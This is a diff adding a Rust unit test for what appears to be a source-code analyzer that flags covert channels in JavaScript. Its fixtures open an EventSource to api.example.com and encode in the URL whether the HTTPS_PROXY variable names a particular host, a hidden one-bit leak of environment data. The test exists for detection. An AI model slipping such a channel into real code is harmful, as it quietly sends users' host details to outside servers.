@@ -596,6 +596,21 @@ mod tests {
     }
 
     #[test]
+    fn what_a_package_opens_leaves_as_well() {
+        for open in [
+            "const { EventSource } = require('eventsource');",
+            "const EventSource = require('eventsource');",
+        ] {
+            let text = format!(
+                "{open}\nexports.ask = () => new EventSource('https://api.example.com/live?n=' + ((process.env.HTTPS_PROXY || '').includes('lotus.example') ? 4097 : 4096));\n"
+            );
+            let mut found = crate::analyze_source("tool.js", &text);
+            found.retain(|finding| finding.behaviour == "covert.channel");
+            assert_eq!(found.len(), 1, "{open}");
+        }
+    }
+
+    #[test]
     fn an_option_that_is_given_is_no_fact_of_the_host() {
         for (test, count) in [
             ("process.argv.includes('--list-last')", 0),
